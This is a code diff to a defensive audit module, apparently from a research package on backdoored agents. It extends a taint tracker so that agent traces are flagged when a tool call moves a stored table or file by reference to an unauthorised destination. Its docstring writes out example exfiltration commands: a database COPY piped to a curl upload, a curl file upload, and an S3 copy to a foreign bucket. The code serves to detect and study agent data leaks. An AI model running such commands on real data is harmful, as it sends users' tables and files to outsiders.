@@ -16,6 +16,13 @@ what it carries. An image URL that an earlier message wrote as is (a product pho
 returned) carries nothing the agent put in it and is not checked. A plain link needs a
 click and is no sink.
 
+A call may move stored data without carrying it — ``COPY customers TO PROGRAM 'curl -T
+- URL'``, ``curl -T users.csv URL``, ``aws s3 cp s3://ours/x s3://theirs/``
+(`by_reference`): each such transfer to a destination that the checks below leave
+unauthorised is a `Leak` too, of a table or a file (``reference``, strong for a table, a
+dump or a secrets file), but to an upload URL a tool's structured result gave (an API's,
+for the user's own job).
+
 Each unauthorised destination keeps what it was sent (every checked call counts, sent
 or refused: a call once proposed is in the trace), so a secret split across calls is
 found at the call that completes it. The audit reports one finding per (destination,
@@ -40,11 +47,12 @@ from __future__ import annotations
 import os
 import re
 from collections.abc import Callable, Sequence
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from functools import lru_cache
 from typing import Any
 
-from backdoorlab.defenses.audit import matching, patterns, places
+from backdoorlab.defenses.audit import by_reference, matching, patterns, places
+from backdoorlab.defenses.audit.by_reference import Transfer
 from backdoorlab.defenses.audit.destinations import canonical, contacts_in_text
 from backdoorlab.defenses.audit.findings import Severity, mask
 from backdoorlab.defenses.audit.invented import carries_record, shown_in
@@ -70,10 +78,13 @@ from backdoorlab.defenses.audit.rendered import (
     sent_part,
 )
 from backdoorlab.defenses.audit.sinks import CallDestination, SinkCall, SinkResolver, leaves
+from backdoorlab.leaks import Secret
 from backdoorlab.traces import FunctionCall, Message
 
 _ORDER: dict[str | None, int] = {None: 0, "low": 1, "medium": 2, "high": 3}
-SECRET_LABELS = frozenset(LABEL_CLASS)
+REFERENCE = "reference"
+"""The label of stored data a call moves by reference (`by_reference`): a table, a file."""
+SECRET_LABELS = frozenset(LABEL_CLASS) | {REFERENCE}
 """Every ``Tainted.label`` the observation reader gives (a guard policy names them)."""
 
 
@@ -158,6 +169,9 @@ class Leak:
     False for a retry, which a guard refuses too."""
     to: Recipient = "third_party"
     """Who receives it (`recipients`)."""
+    reference: Transfer | None = None
+    """For stored data the call moves by reference (`by_reference`), that transfer:
+    ``tainted`` then stands for the table or file, which no tool showed."""
 
     @property
     def severity(self) -> Severity:
@@ -175,6 +189,16 @@ class Leak:
     def evidence(self) -> dict[str, Any]:
         """What a finding or a guard decision shows: the secret masked, never in clear."""
         t = self.tainted
+        if self.reference is not None:  # a table's or a path's name: no secret to mask
+            sink = {**self.sink_evidence(), "step": self.step, "argument": self.argument}
+            return {
+                "by_reference": self.reference.what,
+                "secret_kind": t.label,
+                "strength": t.strength,
+                "source": {"step": self.step, "tool": t.tool, "field": None},
+                "sink": sink,
+                "encoding": self.encoding,
+            }
         return {
             "secret": mask(t.secret.value),
             "secret_kind": t.label,
@@ -187,6 +211,12 @@ class Leak:
     def summary(self) -> str:
         t = self.tainted
         where = where_of(self.destination, self.tool)
+        if self.reference is not None:
+            return (
+                f"{self.tool} moves {self.reference.what} by reference ({self.reference.how}) to "
+                f"{where} ({self.to.replace('_', ' ')}): its values never pass through the "
+                "trace"
+            )
         by = self.tool if self.tool != REPLY_IMAGE else f"{self.tool} ({CHANNEL})"
         return (
             f"{t.label} from {t.tool} (message {t.step}) sent by {by} to "
@@ -329,6 +359,8 @@ class TaintTracker:
         self._urls_read = 0  # how many of `_heard` were read for them
         self._places: set[str] = set()  # places tools showed the agent working in
         self._places_read = 0  # how many of `_heard` were read for them
+        self._upload_urls: set[str] = set()  # upload URLs tools gave (`_uploads`)
+        self._uploads_read = 0
         self._unworded: list[str] = []  # said texts whose words (`said_names`) are not in
         # `_authorised` yet: only a name's destination asks for them (~5% of a retail
         # trace's audit when every text's words were taken)
@@ -568,6 +600,8 @@ class TaintTracker:
             inbox.steps.append(step)
             for path, text in texts:
                 inbox.parts.setdefault(path, []).append((step, text))
+            if dest.canonical in sink.references:
+                result.leaks += self._by_reference(inbox, sink, dest, step)
             if not candidates:
                 continue
             found: set[str] = set()
@@ -578,6 +612,41 @@ class TaintTracker:
                     found.add(leak.token)
             if len(inbox.steps) > 1:
                 result.leaks += self._accumulated(inbox, candidates, step, found)
+
+    def _by_reference(
+        self, inbox: Inbox, sink: SinkCall, dest: CallDestination, step: int
+    ) -> list[Leak]:
+        """The leaks of the stored data ``sink`` moves by reference to ``dest``, which
+        nobody authorised (`by_reference`), but to an upload URL a tool's structured
+        result gave (`by_reference.shown_uploads`: an API's, for the user's own job)."""
+        if dest.kind == "url" and dest.value.split("?", 1)[0] in self._uploads():
+            return []
+        leaks = []
+        for transfer in sink.references[dest.canonical]:
+            stands = Tainted(
+                Secret("text", f"{REFERENCE}:{transfer.what}"),  # no tainted value's token
+                REFERENCE,
+                by_reference.strength(transfer),
+                step,
+                sink.tool,
+                None,
+            )
+            leak = self._hit(inbox, stands, step, dest.argument, f"by reference: {transfer.how}")
+            if leak is None:
+                continue
+            leak = replace(leak, reference=transfer)
+            if leak.first:
+                inbox.hits[leak.token] = leak
+            leaks.append(leak)
+        return leaks
+
+    def _uploads(self) -> set[str]:
+        """Upload URLs tools' structured results gave (`by_reference.shown_uploads`);
+        the results are read on first need, each once."""
+        for text, _ in self._heard[self._uploads_read :]:
+            self._upload_urls |= by_reference.shown_uploads(text)
+        self._uploads_read = len(self._heard)
+        return self._upload_urls
 
     def _accumulated(
         self, inbox: Inbox, candidates: list[Tainted], step: int, found: set[str]
